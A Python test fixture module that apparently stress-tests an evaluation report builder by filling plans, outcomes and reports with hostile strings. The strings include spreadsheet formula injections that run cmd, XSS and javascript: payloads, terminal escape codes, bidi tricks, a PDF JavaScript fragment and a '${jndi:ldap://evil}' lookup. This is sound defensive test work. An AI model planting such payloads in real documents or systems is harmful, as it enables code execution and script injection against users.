"""Texts of strangers that act on whoever shows them, and an evaluation that is full of them."""

from __future__ import annotations

from workbench.evals.report import Report, build_report
from workbench.evals.values import (
    Attempt,
    Candidate,
    Case,
    Check,
    DataSet,
    ExpectedCall,
    Grade,
    Measured,
    Outcome,
    Plan,
)

HOSTILE = (
    # formulas, and commands of other programs
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    '\r\n=HYPERLINK("http://evil","x")',
    " =1+1",
    "\u3000\u2003=1+1",
    "'=1+1",
    "\uff1d1+1",
    "%0A=1",
    # terminals
    "\x1b[2J\x1b[31mred",
    "\x1b]8;;http://evil\x1b\\link\x1b]8;;\x1b\\",
    "\x1b]0;title\x07",
    "\x9b31m\x90q\x9c",
    "\x07\x08\x0c\x7f\x00",
    "line\rover it",
    # directions, invisible letters, halves
    "\u202egnp.exe\u202c",
    "a\u200bb\u2066c\u2069",
    "\U000e0041\U000e0042 tags",
    "half \ud800 a letter",
    "\u2028\u2029\x85 lines",
    # HTML and SVG
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "</title></style><script>alert(1)</script>",
    "</text></svg><foreignObject><iframe src=http://evil>",
    "]]><!--<base href=http://evil>-->",
    "<a href=javascript:alert(1)>x</a>",
    "&lt;b&gt; &#x3c;script&#x3e;",
    '<img src="file:////evil/share/x.png">',
    # Markdown
    "a | b || c\n| --- | --- |\n| x | y |",
    "![x](http://evil/p.png) [y](javascript:alert(1))",
    "# heading\n\n- item\n\n```\ncode",
    "`code` **bold** <http://evil> www.evil.example",
    '[x]: http://evil "title"',
    "1. one\n2) two\n+ three\n===\n---",
    # PDF and others
    ") /JavaScript (app.alert(1)) /OpenAction <<",
    "{{ 7 * 7 }} ${jndi:ldap://evil} %s %n",
    "x" * 3000,
    "\u0301" * 500,
)


def hostile_plan(count: int = len(HOSTILE)) -> Plan:
    """A plan whose every text is one of them."""
    cases = tuple(
        Case(
            f"case-{number} {text}",
            text,
            {"name": text},
            expected=text,
            calls=(ExpectedCall(text, {text: text}),),
            checks=(Check("contains", {"value": text}),),
            tags=(text,),
        )
        for number, text in enumerate(HOSTILE[:count])
    )
    candidates = tuple(
        Candidate(f"c{number} {text}", f"{number} · {text}", {}, text, text, text, text)
        for number, text in enumerate((HOSTILE[0], HOSTILE[23]))
    )
    return Plan("plan", HOSTILE[23], DataSet(HOSTILE[26], cases, (), HOSTILE[12]), candidates)


def hostile_outcomes(plan: Plan) -> list[Outcome]:
    """Every try; some passed, some failed, some gave no answer."""
    found = []
    for candidate in plan.candidates:
        for number, case in enumerate(plan.data_set.cases):
            text, word = case.text, ("passed", "failed", "unknown")[number % 3]
            found.append(
                Outcome(
                    Attempt(candidate.candidate_id, case.case_id, 0),
                    text,
                    text,
                    text,
                    (Grade(text, word, text), Grade("judge", word, text)),  # type: ignore[arg-type]
                    (ExpectedCall(text, {"x": text}),),
                    total_s=1.0 + number,
                    error=text if number % 7 == 0 else "",
                )
            )
    return found


def hostile_report(plan: Plan | None = None) -> Report:
    """The report of it."""
    made = plan or hostile_plan()
    measured = [Measured(one.candidate_id, 1.0, 10, 5) for one in made.candidates]
    return build_report(made, hostile_outcomes(made), measured)
